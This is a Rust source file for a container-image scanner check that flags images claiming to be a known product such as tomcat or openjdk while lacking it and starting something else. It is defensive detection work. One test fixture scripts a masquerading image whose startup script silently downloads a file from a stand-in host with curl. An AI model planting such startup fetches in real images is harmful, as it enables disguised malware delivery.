use lazaret_model::{
    Behaviour, BehaviourKind, Certainty, Class, Confidence, Evidence, Finding, Phase, Reach, Rule, Severity,
};

use super::Check;
use crate::Case;
use crate::deception::{How, claims};

/// An image that says that it is a known product, does not hold it, and starts something else.
pub(super) struct ClaimsWhatItLacks;

impl Check for ClaimsWhatItLacks {
    fn rule(&self) -> Rule {
        Rule {
            id: "stealth/claims-what-it-lacks".into(),
            title: "pass for a known product that it does not hold".into(),
            explanation: "By its name or its title this image is a known product, but no file of that product is in \
                it, and it starts something else. Where it also speaks to the network as it starts, it is to be \
                taken for a lure. Find out who made it, and use the official image."
                .into(),
            class: Class::Malware,
            severity: Severity::Medium,
            confidence: Confidence::Low,
            attack: vec!["T1036.005".into()],
            references: vec!["https://attack.mitre.org/techniques/T1036/005/".into()],
        }
    }

    fn fires(&self) -> &'static [&'static str] {
        &[
            "NAME docker.io/acme/tomcat\nFILE /start.sh 0755\n    #!/bin/sh\n    curl -s https://files.example.invalid/x -o /x\n\
             ELF /bin/sh 0755\n    sh\nENTRYPOINT [\"/start.sh\"]",
            "LABEL org.opencontainers.image.title=openjdk\nFILE /usr/bin/java 0755\n    #!/bin/sh\n    sleep 1\n\
             ELF /bin/sh 0755\n    sh\nCMD [\"java\", \"-version\"]",
        ]
    }

    fn quiet(&self) -> &'static [&'static str] {
        &[
            "NAME docker.io/acme/tomcat\nFILE /usr/local/tomcat/bin/catalina.sh 0755\n    #!/bin/sh\n    exec java\n\
             ENTRYPOINT [\"/usr/local/tomcat/bin/catalina.sh\"]",
            "NAME docker.io/acme/tomcat-sample\nELF /bin/app 0755\n    app\nENTRYPOINT [\"/bin/app\"]",
            "NAME docker.io/acme/debian\nELF /bin/app 0755\n    app\nENTRYPOINT [\"/bin/app\"]",
            "LABEL org.opencontainers.image.title=\"nginx exporter\"\nELF /bin/app 0755\n    app\nENTRYPOINT [\"/bin/app\"]",
            "ELF /opt/jdk/bin/java 0755\n    x\nSYMLINK /usr/bin/java -> /opt/jdk/bin/java\n\
             LABEL org.opencontainers.image.title=openjdk\nCMD [\"java\", \"-version\"]",
        ]
    }

    fn look(&self, case: &Case<'_>, earlier: &[Finding]) -> Vec<Finding> {
        // What was not read may hold it.
        if case.image.config.argv().is_empty() || case.view.layers().iter().any(|layer| !layer.complete) {
            return Vec::new();
        }
        let rule = self.rule();
        let mut findings = Vec::new();
        for claim in claims(case.image) {
            // A slip of the pen is no claim.
            let is_claim = !matches!(claim.how, How::Typo) && claim.official.can_be_told();
            if !is_claim || claim.official.is_held(case) {
                continue;
            }
            let name = claim.official.name;
            let first = case.start.behaviours.iter().find(|b| b.phase == Phase::Start);
            let starts = first.map_or_else(|| case.image.config.argv().join(" "), crate::case::quote);
            let message = format!(
                "it calls itself `{}`, holds no {name}, and starts `{}`",
                claim.said,
                lazaret_model::one_line(&starts, 80)
            );
            let evidence = Evidence::at(claim.location, format!("says that it is {name}")).quoting(claim.said);
            let mut finding = Finding::of(&rule, message, evidence)
                .reach(Reach::Starts)
                .refuted_by(format!("its maker shows where {name} is in it, or that it never said so"));
            if let Some(first) = first {
                finding = finding.and(case.behaviour_evidence(first));
            }
            let speaks = case.start.behaviours.iter().find(|b| speaks_at_start(b));
            let acts = |f: &&Finding| f.class == Class::Malware && f.reach == Reach::Starts;
            if let Some(speaks) = speaks {
                finding = finding.and(case.behaviour_evidence(speaks)).confidence(Confidence::Medium);
            } else if earlier.iter().any(|f| acts(&f) && f.confidence >= Confidence::Medium) {
                finding = finding.confidence(Confidence::Medium);
            }
            findings.push(finding.build());
        }
        findings
    }
}

/// Whether it reaches out to a stranger as the container starts.
fn speaks_at_start(behaviour: &Behaviour) -> bool {
    let BehaviourKind::Network { host, .. } = &behaviour.kind else { return false };
    let own = host.starts_with("127.") || host == "localhost" || host == "::1" || host.contains('$');
    behaviour.phase == Phase::Start && behaviour.certainty == Certainty::Will && host.contains('.') && !own
}
